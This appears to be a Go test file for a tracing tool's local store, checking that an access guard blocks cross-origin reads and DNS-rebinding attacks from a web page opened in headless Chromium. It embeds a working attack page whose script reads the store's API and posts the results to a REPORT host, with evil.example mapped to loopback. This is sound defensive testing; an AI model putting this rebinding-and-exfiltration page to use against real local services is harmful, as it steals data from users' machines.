package page

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/dnstrail/dnstrail/link"
	"github.com/dnstrail/dnstrail/link/semconv"
	"github.com/dnstrail/dnstrail/tracer/access"
	"github.com/dnstrail/dnstrail/tracer/joined"
	"github.com/dnstrail/dnstrail/tracer/store"
	"github.com/dnstrail/dnstrail/tracer/trace"
	"github.com/dnstrail/dnstrail/tracer/traceapi"
)

// secret is what a page of another origin must not read.
const secret = "the-workload-that-asks"

// attack is the page of a web site that asks a store on the visitor's machine: as another origin, and, once its own
// name leads there, as the same one. It tells its site what it was given.
const attack = `<!doctype html><script>
const tell = (how, text) => fetch("http://REPORT/?how=" + how, {method: "POST", mode: "no-cors", body: text});
const read = async (how, url, options) => {
	try {
		const r = await fetch(url, options);
		await tell(how, r.status + " " + await r.text());
	} catch (e) {
		await tell(how, "error: " + e);
	}
};
(async () => {
	await read("cors", "http://STORE/api/v3/services");
	await read("opaque", "http://STORE/api/v3/services", {mode: "no-cors"});
	await read("post", "http://STORE/lookups?last=0", {method: "POST", mode: "no-cors", body: "{}"});
	await tell("loaded", "");
	for (;;) {
		try {
			const r = await fetch("/api/v3/services", {cache: "no-store"}), text = await r.text();
			if (text != "not yet") {
				await tell("rebound", r.status + " " + text);
				break;
			}
		} catch (e) {} // between the two nobody listens
		await new Promise(done => setTimeout(done, 100));
	}
})();
</script>`

// tellings are what the page told its site.
type tellings chan [2]string

// await gives what was told of how.
func (c tellings) await(t *testing.T, how string, all map[string]string) {
	t.Helper()
	for {
		select {
		case x := <-c:
			all[x[0]] = x[1]
			if x[0] == how {
				return
			}
		case <-time.After(time.Minute):
			t.Fatalf("the page did not come to %q; it told %q", how, all)
		}
	}
}

// TestPagesOfOthersGetNothing: a web page in a browser on the same machine reads nothing from a store on loopback,
// neither as another origin nor when its own name leads to the store. Without the guard the latter reads all: so the
// test can fail.
func TestPagesOfOthersGetNothing(t *testing.T) {
	needChromium(t)
	s := store.New(store.Limits{})
	s.Add(&trace.Span{
		TraceID: link.TraceID{1}, SpanID: link.SpanID{1}, Name: "DNS A",
		Resource: &trace.Resource{Attributes: trace.Attributes{{Key: semconv.ServiceName, Value: secret}}},
	})
	open := joined.Handler(s, traceapi.Handler(s))
	for _, guarded := range []bool{true, false} {
		t.Run(fmt.Sprintf("guarded=%t", guarded), func(t *testing.T) {
			h := open
			if guarded {
				h = access.Local(nil, open)
			}
			told := visit(t, h)
			for how, text := range told {
				if strings.Contains(text, secret) != (!guarded && how == "rebound") {
					t.Errorf("%s was told: %s", how, text)
				}
			}
			if guarded && !strings.HasPrefix(told["rebound"], fmt.Sprint(http.StatusMisdirectedRequest)) {
				t.Errorf("by the site's name the store answers %q", told["rebound"])
			}
			for _, how := range []string{"cors", "opaque", "post"} {
				if told[how] == "" {
					t.Errorf("%s was not tried", how)
				}
			}
		})
	}
}

// visit opens the page in Chromium, with a store that h answers for, and gives what it told.
func visit(t *testing.T, h http.Handler) map[string]string {
	t.Helper()
	told := make(tellings, 16)
	report := serve(t, "127.0.0.1:0", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20)) // what came of it
		told <- [2]string{r.URL.Query().Get("how"), string(b)}
	}))
	victim := serve(t, "127.0.0.1:0", h)
	page := strings.NewReplacer("REPORT", report.Addr, "STORE", victim.Addr).Replace(attack)
	site := serve(t, "127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			_, _ = io.WriteString(w, "not yet")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, page)
	}))
	_, port, err := net.SplitHostPort(site.Addr)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	browser := exec.CommandContext(ctx, "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
		"--user-data-dir="+profile(t), "--host-resolver-rules=MAP evil.example 127.0.0.1",
		"--remote-debugging-port=0", "http://evil.example:"+port+"/")
	// Its processes are one group, and end together.
	browser.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	browser.Cancel = func() error { return syscall.Kill(-browser.Process.Pid, syscall.SIGKILL) }
	browser.WaitDelay = 5 * time.Second
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		_ = browser.Wait() // it was killed
	}()
	all := map[string]string{}
	told.await(t, "loaded", all)
	if err := site.Close(); err != nil {
		t.Fatal(err)
	}
	serve(t, site.Addr, h) // what the site's name leads to now
	told.await(t, "rebound", all)
	return all
}

// profile makes a directory for a browser. Its processes still write there when the first of them has ended, so that
// removing it may take more than one try.
func profile(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "dnstrail-browser-") //nolint:usetesting // t.TempDir tries to remove it only once.
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		var err error
		for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
			if err = os.RemoveAll(dir); err == nil {
				return
			}
		}
		t.Error(err)
	})
	return dir
}

// serve serves at an address; Addr of what it gives is the one it has.
func serve(t *testing.T, addr string, h http.Handler) *http.Server {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	s := &http.Server{Handler: h, Addr: l.Addr().String(), ReadHeaderTimeout: time.Minute}
	go func() { _ = s.Serve(l) }()
	t.Cleanup(func() { _ = s.Close() })
	return s
}
